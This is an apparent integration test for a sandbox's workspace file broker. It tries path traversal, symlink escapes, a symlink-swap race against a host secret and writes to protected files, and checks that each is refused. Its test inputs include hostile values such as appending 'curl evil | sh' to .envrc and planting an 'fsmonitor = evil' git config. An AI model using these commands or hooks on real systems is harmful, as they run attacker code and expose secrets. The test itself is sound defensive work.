#!/usr/bin/env bash
# Integration lane: the VM's files come from the broker (broker/workspace.c).
#
# One procedure (prims.tac) calls every File.* and tactus.io.* primitive,
# require and Procedure.run, and every refusal it should meet (absolute
# paths, '..', NUL bytes, long names, symlinks in every position, a FIFO,
# protected paths in their variants); it returns what each call gave.  It
# runs in the four workspace modes (rw, ro, overlay, off), in the sandbox
# and with --no-sandbox, as root and as uid 65534, each time in a fresh
# copy of the same workspace, and the host directory is compared before
# and after:
#   - rw: the changes are on the host, owned by the workspace's owner, with
#     no temporary file left; the protected files are untouched;
#   - overlay: the procedure sees exactly what it sees in rw, the host is
#     untouched;
#   - ro: reads work, every write is PermissionDenied (Read-only file
#     system), the host is untouched;
#   - off: every file call says there is no workspace.
# The sandbox and --no-sandbox give the same results.  Then the race: a
# file (and a directory) replaced by a symlink to a host secret, over and
# over, while the procedure reads it; the secret is never read.  The trace
# has a file_access event for each access and a policy_violation for each
# refused write.
source "$TESTS_DIR/integration/common.bash"

export HOME="$TMPD/home"
mkdir -p "$HOME" "$TMPD/outside"
echo "host secret" >"$TMPD/outside/secret.txt"
chmod -R a+rX "$TMPD/outside"
LONG=$(printf 'n%.0s' $(seq 300))

# A fresh workspace owned by OWNER (root or nobody).
make_ws() {
  local ws="$1" owner="$2"
  rm -rf "$ws"
  mkdir -p "$ws/sub/deep" "$ws/empty" "$ws/mods" "$ws/.git" "$ws/sub/inner/.git" "$ws/.tactus"
  echo alpha >"$ws/a.txt"
  echo beta >"$ws/sub/b.txt"
  printf '[core]\n\tbare = false\n' >"$ws/.git/config"
  echo inner >"$ws/sub/inner/.git/config"
  echo "[submodule]" >"$ws/.gitmodules"
  echo "export X=1" >"$ws/.envrc"
  echo "sandbox: {}" >"$ws/.tactus/config.yml"
  echo "policy: {}" >"$ws/prims.tac.yml"
  mkfifo "$ws/fifo"
  ln -s "$TMPD/outside/secret.txt" "$ws/link-out"
  ln -s "$TMPD/outside" "$ws/dir-out"
  ln -s sub "$ws/dir-in"
  printf 'local M = {}\nfunction M.twice(x) return 2 * x end\nreturn M\n' >"$ws/mods/m.tac"
  printf 'return { child = input.x + 1 }\n' >"$ws/child.tac"
  cp "$TMPD/prims.tac" "$ws/prims.tac"
  if [ "$owner" = nobody ]; then chown -R 65534:65534 "$ws"; chmod 0755 "$ws"; fi
}

# Everything on the host, with owners and contents (not times: reads do
# not matter, only changes).
host_state() {
  (cd "$1" && find . -printf '%p %y %u %s %l\n' | sort && find . -type f ! -name fifo -exec md5sum {} + | sort)
}

cat >"$TMPD/prims.tac" <<'EOF'
local json = require("tactus.io.json")
local csv = require("tactus.io.csv")
local m = require("mods.m")
local r = {}
local function try(what, fn, ...)
  local ok, v = pcall(fn, ...)
  if ok then
    if type(v) == "table" then v = Json.encode(v) end
    r[what] = "ok: " .. tostring(v)
  else
    r[what] = type(v) == "table" and (tostring(v.type) .. ": " .. tostring(v.message)) or tostring(v):gsub("^[^:]*prims.tac:%d+: ", "")
  end
end
Procedure { function()
  -- reads
  try("read", File.read, "a.txt")
  try("read nested", File.read, "sub/b.txt")
  try("read ./", File.read, "./sub/./b.txt")
  try("exists", File.exists, "a.txt")
  try("exists missing", File.exists, "nope")
  try("exists dir", File.exists, "sub")
  try("is_dir", File.is_dir, "sub")
  try("is_dir file", File.is_dir, "a.txt")
  try("size", File.size, "a.txt")
  try("size missing", File.size, "nope")
  try("size dir", File.size, "sub")
  try("list", File.list, ".")
  try("list sub", File.list, "sub")
  try("list missing", File.list, "nope")
  try("read missing", File.read, "nope")
  try("read dir", File.read, "sub")
  try("read fifo", File.read, "fifo")
  try("read protected", File.read, ".git/config")
  -- refusals
  try("absolute", File.read, "/etc/passwd")
  try("dotdot", File.read, "../outside/secret.txt")
  try("inner dotdot", File.read, "sub/../../outside/secret.txt")
  try("empty", File.read, "")
  try("empty component", File.read, "sub//b.txt")
  try("trailing slash", File.read, "sub/")
  try("nul", File.read, "a.txt\0.git")
  try("nul write", File.write, "x\0y", "z")
  try("long name", File.write, string.rep("n", 300), "x")
  try("long path", File.read, string.rep("d/", 2100) .. "f")
  try("symlink", File.read, "link-out")
  try("symlinked dir", File.read, "dir-out/secret.txt")
  try("symlinked dir in", File.read, "dir-in/b.txt")
  try("write symlinked dir", File.write, "dir-out/new.txt", "x")
  try("append symlinked dir", File.append, "dir-out/new.txt", "x")
  try("mkdir symlinked dir", File.mkdir, "dir-out/d")
  try("remove through symlinked dir", File.remove, "dir-out/secret.txt")
  try("list symlinked dir", File.list, "dir-out")
  try("size symlink", File.size, "link-out")
  try("exists symlink", File.exists, "link-out")
  try("exists through symlink", File.exists, "dir-out/secret.txt")
  -- writes
  try("write", File.write, "new.txt", "n1")
  try("read back", File.read, "new.txt")
  try("append", File.append, "new.txt", "+n2")
  try("read appended", File.read, "new.txt")
  try("append new", File.append, "fresh.txt", "f")
  try("overwrite", File.write, "sub/b.txt", "beta2")
  try("read overwritten", File.read, "sub/b.txt")
  try("write into missing dir", File.write, "nodir/x.txt", "x")
  try("write over dir", File.write, "sub", "x")
  try("mkdir", File.mkdir, "newdir")
  try("mkdir existing", File.mkdir, "sub")
  try("write in new dir", File.write, "newdir/f.txt", "in new dir")
  try("list new dir", File.list, "newdir")
  try("remove", File.remove, "a.txt")
  try("exists removed", File.exists, "a.txt")
  try("read removed", File.read, "a.txt")
  try("remove empty dir", File.remove, "empty")
  try("remove non-empty dir", File.remove, "sub")
  try("remove missing", File.remove, "nope")
  try("recreate removed", File.write, "a.txt", "again")
  try("read recreated", File.read, "a.txt")
  try("json", function() json.write("d.json", { k = { 1, 2 } }); return json.read("d.json") end)
  try("csv", function() csv.write("t.csv", { { a = "1", b = "x,y" } }); local rows = csv.read("t.csv"); return rows[1].a .. "|" .. rows[1].b end)
  try("list after", File.list, ".")
  try("big", function() File.write("big.bin", string.rep("0123456789abcdef", 65536)); return #File.read("big.bin") end)
  -- modules
  try("require", function() return m.twice(21) end)
  try("procedure.run", function() return Procedure.run("child.tac", { x = 41 }) end)
  -- protected paths: reads stay allowed, every write is refused
  try("write .git/config", File.write, ".git/config", "[core]\n\tfsmonitor = evil\n")
  try("append .git/config", File.append, ".git/config", "[core]\n\tfsmonitor = evil\n")
  try("mkdir .git/hooks", File.mkdir, ".git/hooks")
  try("write .git/hooks/pre-commit", File.write, ".git/hooks/pre-commit", "#!/bin/sh\n")
  try("remove .git/config", File.remove, ".git/config")
  try("new nested .git", File.write, "sub/deep/.git", "gitdir: /tmp/evil")
  try("new nested .git dir", File.mkdir, "sub/deep/.git")
  try("existing nested .git", File.append, "sub/inner/.git/config", "x")
  try("case .GIT", File.write, ".GIT/config", "x")
  try("case .Git nested", File.write, "sub/.Git", "x")
  try("trailing dot", File.write, ".git./config", "x")
  try("sidecar", File.write, "prims.tac.yml", "policy: {tools: [host.x]}")
  try("sidecar new", File.write, "other.TAC.YML", "x")
  try("sidecar nested", File.write, "sub/x.tac.yml", "x")
  try(".tactus", File.write, ".tactus/config.yml", "x")
  try(".envrc", File.append, ".envrc", "curl evil | sh")
  try(".gitmodules", File.write, ".gitmodules", "x")
  try(".bashrc", File.write, ".bashrc", "x")
  try(".zshenv", File.write, ".zshenv", "x")
  try(".vscode", File.write, ".vscode/tasks.json", "{}")
  try(".idea", File.mkdir, ".idea")
  try(".mcp.json", File.write, ".mcp.json", "{}")
  try(".gitconfig", File.write, ".gitconfig", "x")
  try("remove .tactus", File.remove, ".tactus/config.yml")
  try("read .envrc", File.read, ".envrc")
  return r
end }
EOF

# modes: the config for each (sandbox.mount_current_dir)
declare -A MODE_CFG=([rw]=rw [ro]=ro [overlay]=overlay [off]=off)
declare -A RESULTS

for who in root nobody; do
  for mode in rw ro overlay off; do
    for box in sandbox no-sandbox; do
      ws="$TMPD/ws-$who-$mode-$box"
      make_ws "$ws" "$who"
      printf 'sandbox:\n  mount_current_dir: %s\n  timeout: 60\n' "${MODE_CFG[$mode]}" >"$HOME/cfg-$mode.yml"
      mkdir -p "$HOME/.tactus"
      cp "$HOME/cfg-$mode.yml" "$HOME/.tactus/config.yml"
      chmod -R a+rX "$HOME"
      before=$(host_state "$ws")
      RUNNER=()
      [ "$who" = nobody ] && RUNNER=("${NOBODY[@]}" env HOME="$HOME")
      extra=()
      [ "$box" = no-sandbox ] && extra=(--no-sandbox)
      tr_json "$ws" prims.tac "${extra[@]}"
      RUNNER=()
      after=$(host_state "$ws")
      key="$who $mode $box"
      res=$(json_get 'r["result"]')
      RESULTS[$key]="$res"
      if [ "$rc" != 0 ]; then
        fail "workspace files ($key): the procedure runs" "exit $rc: $(short "$err$out")"
        continue
      fi
      get() { printf '%s' "$res" >"$TMPD/res.json"; py_eval "$TMPD/res.json" "json.loads(text)[\"$1\"]"; }
      tag="workspace files ($key)"

      # ---- every mode: refusals before the broker does anything ----
      expect_in "$tag: an absolute path is refused" "$(get absolute)" "File.read: '/etc/passwd': absolute paths are not allowed"
      expect_in "$tag: '..' is refused" "$(get dotdot)$(get 'inner dotdot')" "'..' is not allowed" "sub/../../outside"
      expect_in "$tag: an empty path is refused" "$(get empty)" "non-empty"
      expect_in "$tag: a NUL byte in a path is refused" "$(get nul)$(get 'nul write')" "File.read: the path must be a non-empty string" "File.write: the path must be"
      if [ "$mode" = off ]; then
        for k in read list write append mkdir remove exists size 'read protected' 'write .git/config' require; do
          v=$(get "$k")
          case "$k" in
            require) expect "$tag: require of a local module still works (modules are not workspace files)" "$v" '"ok: 42"' ;;
            *) expect_in "$tag: $k: no workspace" "$v" "no workspace is mounted (sandbox.mount_current_dir is off)" ;;
          esac
        done
        expect "$tag: the host directory is untouched" "$after" "$before"
        continue
      fi
      expect "$tag: read" "$(get read)" '"ok: alpha\n"'
      expect_in "$tag: an empty component and a trailing slash mean what they mean to the shell (the path rule)" \
        "$(get 'empty component') $(get 'trailing slash')" '"ok: beta\n"' "File.read: 'sub': not a regular file"
      expect "$tag: read nested, and with ./ components" "$(get 'read nested') $(get 'read ./')" '"ok: beta\n" "ok: beta\n"'
      expect "$tag: exists/is_dir/size" "$(get exists) $(get 'exists missing') $(get 'exists dir') $(get is_dir) $(get 'is_dir file') $(get size)" \
        '"ok: true" "ok: false" "ok: true" "ok: true" "ok: false" "ok: 6"'
      expect_in "$tag: size of a missing file / a directory" "$(get 'size missing') $(get 'size dir')" \
        "File.size: 'nope': No such file or directory" "File.size: 'sub': not a regular file"
      expect_in "$tag: list" "$(get list)" '.envrc' '.git' 'a.txt' 'child.tac' 'dir-in' 'fifo' 'link-out' 'prims.tac' 'sub'
      expect "$tag: list sub" "$(get 'list sub')" '"ok: [\"b.txt\",\"deep\",\"inner\"]"'
      expect_in "$tag: list/read of a missing path" "$(get 'list missing') $(get 'read missing')" \
        "File.list: 'nope': No such file or directory" "File.read: 'nope': No such file or directory"
      expect_in "$tag: read of a directory / a FIFO: not a regular file (the FIFO does not block)" \
        "$(get 'read dir') $(get 'read fifo')" "File.read: 'sub': not a regular file" "File.read: 'fifo': not a regular file"
      expect "$tag: a protected file can be read" "$(get 'read protected')" '"ok: [core]\n\tbare = false\n"'
      expect_in "$tag: long names refused by the kernel or the broker" "$(get 'long name') $(get 'long path')" \
        "File.write: '$LONG'" "File.read:"
      expect_in "$tag: a symlink is not followed" "$(get symlink)" "File.read: 'link-out': is a symlink (symlinks are not followed)"
      for k in 'symlinked dir' 'symlinked dir in' 'write symlinked dir' 'append symlinked dir' 'mkdir symlinked dir' 'remove through symlinked dir' 'exists through symlink'; do
        case "$mode:$k" in
          ro:write*|ro:append*|ro:remove*)
            expect_in "$tag: $k: refused (read-only)" "$(get "$k")" "Read-only file system (PermissionDenied" ;;
          *) expect_in "$tag: $k: refused" "$(get "$k")" "a directory in the path is a symlink or not a directory (symlinks are not followed)" ;;
        esac
      done
      expect_in "$tag: File.list of a symlink is refused" "$(get 'list symlinked dir')" "File.list: 'dir-out': is a symlink (symlinks are not followed)"
      expect_in "$tag: File.size / File.exists of a symlink" "$(get 'size symlink') $(get 'exists symlink')" \
        "File.size: 'link-out': not a regular file" '"ok: false"'
      expect "$tag: require and Procedure.run" "$(get require) $(get procedure.run)" '"ok: 42" "ok: {\"child\":42}"'

      if [ "$mode" = ro ]; then
        for k in write append 'append new' overwrite mkdir remove 'remove empty dir' 'recreate removed' json csv big; do
          expect_in "$tag: $k: Read-only file system (PermissionDenied)" "$(get "$k")" "Read-only file system (PermissionDenied: the workspace is read-only"
        done
        expect "$tag: reads still work after refused writes" "$(get 'read overwritten') $(get 'exists removed')" '"ok: beta\n" "ok: true"'
        expect "$tag: the host directory is untouched" "$after" "$before"
      else
        expect "$tag: write, read back, append, read" "$(get write) $(get 'read back') $(get append) $(get 'read appended') $(get 'append new')" \
          '"ok: true" "ok: n1" "ok: true" "ok: n1+n2" "ok: true"'
        expect "$tag: overwrite" "$(get overwrite) $(get 'read overwritten')" '"ok: true" "ok: beta2"'
        expect_in "$tag: write into a missing directory makes it; over a directory is refused" \
          "$(get 'write into missing dir') $(get 'write over dir')" '"ok: true"' "File.write: 'sub': Is a directory"
        expect "$tag: mkdir, write in it, list it" "$(get mkdir) $(get 'mkdir existing') $(get 'write in new dir') $(get 'list new dir')" \
          '"ok: true" "ok: true" "ok: true" "ok: [\"f.txt\"]"'
        expect "$tag: remove a file, it is gone, write it again" \
          "$(get remove) $(get 'exists removed') $(get 'recreate removed') $(get 'read recreated')" \
          '"ok: true" "ok: false" "ok: true" "ok: again"'
        expect_in "$tag: remove of a removed file, a non-empty directory, a missing file" \
          "$(get 'read removed') $(get 'remove non-empty dir') $(get 'remove missing')" \
          "File.read: 'a.txt': No such file or directory" "File.remove: 'sub': Directory not empty" "File.remove: 'nope': No such file or directory"
        expect "$tag: remove an empty directory" "$(get 'remove empty dir')" '"ok: true"'
        expect "$tag: tactus.io.json and csv round trips" "$(get json) $(get csv)" '"ok: {\"k\":[1,2]}" "ok: 1|x,y"'
        expect "$tag: a 1 MiB file" "$(get big)" '"ok: 1048576"'
      fi
      # Protected paths: the same in rw and overlay; ro refuses them anyway.
      for k in 'write .git/config' 'append .git/config' 'mkdir .git/hooks' 'write .git/hooks/pre-commit' 'remove .git/config' \
               'new nested .git' 'new nested .git dir' 'existing nested .git' 'case .GIT' 'case .Git nested' 'trailing dot' \
               sidecar 'sidecar new' 'sidecar nested' .tactus .envrc .gitmodules .bashrc .zshenv .vscode .idea .mcp.json .gitconfig 'remove .tactus'; do
        expect_in "$tag: protected: $k: PermissionDenied" "$(get "$k")" "PermissionDenied: '" "' is protected (sandbox.protected_paths)"
      done
      expect_in "$tag: the refusal names the path as the procedure wrote it" "$(get 'write .git/config')" \
        "File.write: PermissionDenied: '.git/config' is protected (sandbox.protected_paths)"
      expect "$tag: a protected file is still read" "$(get 'read .envrc')" '"ok: export X=1\n"'
      # The host.
      if [ "$mode" = rw ]; then
        protected_after=$(cd "$ws" && cat .git/config sub/inner/.git/config .gitmodules .envrc .tactus/config.yml prims.tac.yml | md5sum)
        protected_before=$(printf '[core]\n\tbare = false\ninner\n[submodule]\nexport X=1\nsandbox: {}\npolicy: {}\n' | md5sum)
        expect "$tag: the protected files on the host are untouched" "$protected_after" "$protected_before"
        created=$(cd "$ws" && ls -d .git/hooks sub/deep/.git .GIT .vscode .idea .mcp.json .bashrc .zshenv other.TAC.YML sub/x.tac.yml .gitconfig 2>/dev/null | tr '\n' ' ')
        expect "$tag: no protected entry was created on the host" "$created" ""
        expect "$tag: the changes are on the host" \
          "$(cd "$ws" && cat new.txt fresh.txt sub/b.txt a.txt newdir/f.txt nodir/x.txt && test ! -e empty && echo ' empty-gone')" \
          "n1+n2fbeta2againin new dirx empty-gone"
        owner=$([ "$who" = nobody ] && echo nobody || echo root)
        expect "$tag: new files belong to the workspace's owner" \
          "$(cd "$ws" && stat -c %U new.txt fresh.txt newdir newdir/f.txt nodir nodir/x.txt | sort -u)" "$owner"
        expect "$tag: no temporary file is left" "$(cd "$ws" && find . -name '*.tmp-*' | wc -l)" 0
      else
        expect "$tag: the host directory is untouched" "$after" "$before"
      fi
    done
  done
done

# The same procedure sees the same files in rw and overlay, in the sandbox
# and without, as root and as nobody.
for who in root nobody; do
  for box in sandbox no-sandbox; do
    expect "workspace files ($who $box): overlay gives the procedure the same results as rw" \
      "${RESULTS[$who overlay $box]}" "${RESULTS[$who rw $box]}"
  done
  for mode in rw ro overlay off; do
    expect "workspace files ($who $mode): the sandbox and --no-sandbox give the same results" \
      "${RESULTS[$who $mode sandbox]}" "${RESULTS[$who $mode no-sandbox]}"
  done
done
rm -f "$HOME/.tactus/config.yml"

# ---- the trace ----------------------------------------------------------------
ws="$TMPD/ws-trace"
make_ws "$ws" root
cat >"$ws/traced.tac" <<'EOF'
Procedure { function()
  File.write("t.txt", "12345")
  File.append("t.txt", "678")
  local s = File.read("t.txt")
  File.exists("t.txt")
  pcall(File.write, ".git/config", "x")
  return s
end }
EOF
tr_json "$ws" traced.tac
expect "workspace files: each access is a file_access event (operation, path, bytes, status)" \
  "$(json_get '[(e["operation"], e["path"], e.get("bytes"), e["status"], e["workspace_mode"]) for e in map(json.loads, lines) if e["event_type"] == "file_access"]')" \
  '[["write", "t.txt", 5, "ok", "rw"], ["append", "t.txt", 3, "ok", "rw"], ["read", "t.txt", 8, "ok", "rw"], ["stat", "t.txt", 8, "ok", "rw"], ["mkdir", ".git", null, "ok", "rw"], ["write", ".git/config", null, "denied", "rw"]]'
expect "workspace files: a refused write is a policy_violation event" \
  "$(json_get '[(e["level"], e["operation"], e["path"], e["message"]) for e in map(json.loads, lines) if e["event_type"] == "policy_violation"]')" \
  "[[\"WARNING\", \"write\", \".git/config\", \"File write refused: PermissionDenied: '.git/config' is protected (sandbox.protected_paths)\"]]"
expect "workspace files: a refused write is no protocol violation (the run is not at risk)" \
  "$(json_get '[e.get("protocol_violations", 0) for e in map(json.loads, lines) if e["event_type"] == "execution_summary"]')" '[0]'
tr_human "$ws" traced.tac
expect_in "workspace files: the human trace shows the violation" "$err" "policy_violation File write refused: PermissionDenied: '.git/config' is protected"
if [[ "$err" == *"file_access"* ]]; then fail "workspace files: file_access events only with --verbose" "$(short "$err")"
else pass "workspace files: file_access events only with --verbose"; fi

# ---- every entry of the built-in list (docs/sandbox.md), at the top and nested ------------
ws="$TMPD/ws-every"
mkdir -p "$ws/sub/deep"
cat >"$ws/every.tac" <<'EOF'
local names = { ".git", ".gitmodules", ".gitconfig", ".lfsconfig", ".hg", ".svn", ".bzr", ".jj", ".tactus",
  "x.tac.yml", ".envrc", ".vscode", ".idea", ".mcp.json", ".pre-commit-config.yaml", ".bashrc", ".bash_profile",
  ".bash_login", ".bash_logout", ".profile", ".zshrc", ".zshenv", ".zprofile", ".zlogin", ".zlogout", ".kshrc",
  ".mkshrc", ".cshrc", ".tcshrc", ".login", ".logout", ".inputrc", ".GIT", ".Envrc", "X.Tac.Yml", ".bashrc." }
local written = {}
for _, n in ipairs(names) do
  for _, p in ipairs({ n, "sub/" .. n, "sub/deep/" .. n .. "/f" }) do
    for _, op in ipairs({ "write", "append", "mkdir" }) do
      local ok = pcall(op == "mkdir" and File.mkdir or (op == "append" and File.append or File.write), p, "x")
      if ok then written[#written + 1] = op .. " " .. p end
    end
  end
end
return { written = table.concat(written, ", "), tried = #names * 9 }
EOF
for box in sandbox no-sandbox; do
  extra=()
  [ "$box" = no-sandbox ] && extra=(--no-sandbox)
  tr_json "$ws" every.tac "${extra[@]}"
  expect "workspace files ($box): every protected entry (and case, trailing-dot variants), at the top, nested and as a directory on the way, refused for write, append and mkdir" \
    "$(json_get '[r["result"]["written"], r["result"]["tried"]]')" '["", 324]' "$(short "$err")"
done
created=$(cd "$ws" && find . -newer "$ws/every.tac" \( -name '.*' -o -name '*.tac.yml' -o -iname '*.TAC.YML' \) | grep -v '^\./\.git$\|^\./\.tactus$' | tr '\n' ' ')
expect "workspace files: none of them exists on the host" "$created" ""

# ---- sandbox.protected_paths from trusted config --------------------------------------
ws="$TMPD/ws-prot"
make_ws "$ws" root
mkdir -p "$HOME/.tactus"
printf 'sandbox:\n  protected_paths:\n    add: ["*.pem", secrets.env]\n    remove: [.envrc]\n' >"$HOME/.tactus/config.yml"
cat >"$ws/prot.tac" <<'EOF'
local r = {}
for _, p in ipairs({ "key.PEM", "sub/secrets.env", ".envrc", ".git/config" }) do
  local ok, e = pcall(File.write, p, "x")
  r[#r + 1] = ok and "written" or (tostring(e):find("is protected", 1, true) and "protected" or tostring(e))
end
return r
EOF
tr_json "$ws" prot.tac
expect "workspace files: sandbox.protected_paths adds entries and removes one" "$(json_get 'r["result"]')" \
  '["protected", "protected", "written", "protected"]' "$(short "$err")"
expect_in "workspace files: removing a protected path is warned about, naming the file and line" "$err" \
  "warning: $HOME/.tactus/config.yml:4: sandbox.protected_paths: '.envrc' is no longer protected"
printf 'sandbox:\n  protected_paths:\n    remove: [.nothing]\n' >"$HOME/.tactus/config.yml"
tr_json "$ws" prot.tac
expect_in "workspace files: removing an entry that is not protected is an error" "$rc $err" "1 " \
  "config.yml:3: sandbox.protected_paths.remove: '.nothing' is not a protected path"
printf 'sandbox:\n  protected_paths: [a/b]\n' >"$HOME/.tactus/config.yml"
tr_json "$ws" prot.tac
expect_in "workspace files: a protected path entry with '/' is an error" "$rc $err" "1 " \
  "sandbox.protected_paths: 'a/b': an entry is one name"
rm -f "$HOME/.tactus/config.yml"

# ---- the race: a file and a directory replaced by symlinks while read ------------------
ws="$TMPD/ws-race"
make_ws "$ws" root
mkdir -p "$ws/d"
echo inside >"$ws/f"
echo inside >"$ws/d/s"
cat >"$ws/race.tac" <<'EOF'
-- Reads until both states were seen many times (the swaps raced the
-- reads), or a bound; the secret must never come back.
Procedure { input = { n = field.integer { default = 400000 } }, function(input)
  local c = { inside = 0, refused = 0, secret = 0, other = 0 }
  for i = 1, input.n do
    for _, p in ipairs({ "f", "d/s" }) do
      local ok, v = pcall(File.read, p)
      if ok and v == "inside\n" then c.inside = c.inside + 1
      elseif ok and v:find("host secret", 1, true) then c.secret = c.secret + 1
      elseif not ok and (tostring(v):find("symlink", 1, true) or tostring(v):find("No such file", 1, true)) then c.refused = c.refused + 1
      else c.other = c.other + 1; c.last = tostring(v) end
    end
    if c.inside >= 200 and c.refused >= 200 then break end
  end
  return c
end }
EOF
cat >"$TMPD/flip.py" <<'EOF'
import os, sys
ws, secret_dir, stop = sys.argv[1], sys.argv[2], sys.argv[3]
os.chdir(ws)
n = 0
while not os.path.exists(stop):
    # f: a symlink to the secret, then a regular file again (rename: atomic)
    os.symlink(secret_dir + "/secret.txt", "f.lnk"); os.rename("f.lnk", "f")
    with open("f.new", "w") as fh: fh.write("inside\n")
    os.rename("f.new", "f")
    # d: a symlink to the secret's directory, then the real directory again
    os.rename("d", "d.real"); os.symlink(secret_dir, "d.lnk"); os.rename("d.lnk", "d")
    os.unlink("d"); os.rename("d.real", "d")
    n += 1
print(n)
EOF
cp "$TMPD/outside/secret.txt" "$TMPD/outside/s"
for box in sandbox no-sandbox; do
  extra=()
  [ "$box" = no-sandbox ] && extra=(--no-sandbox)
  rm -f "$TMPD/stop"
  python3 "$TMPD/flip.py" "$ws" "$TMPD/outside" "$TMPD/stop" >"$TMPD/flips" &
  flipper=$!
  tr_json "$ws" race.tac --timeout 120 "${extra[@]}"
  touch "$TMPD/stop"
  wait "$flipper"
  c=$(json_get 'r["result"]')
  expect "workspace files ($box): the race: a file or directory swapped for a symlink is never read through it" \
    "$(json_get '[r["result"]["secret"], r["result"]["other"]]')" '[0, 0]' "$c"
  # The control: both states were seen, so the swaps raced the reads.
  if [ "$(json_get 'r["result"]["inside"] > 0 and r["result"]["refused"] > 0')" = true ]; then
    pass "workspace files ($box): the race was run (reads saw both the file and the symlink: $c, $(cat "$TMPD/flips") swaps)"
  else
    fail "workspace files ($box): the race was run" "$c; $(cat "$TMPD/flips") swaps; $(short "$err")"
  fi
  # Restore in case the flipper stopped between its steps.
  if [ -d "$ws/d.real" ]; then rm -f "$ws/d"; mv "$ws/d.real" "$ws/d"; fi
done
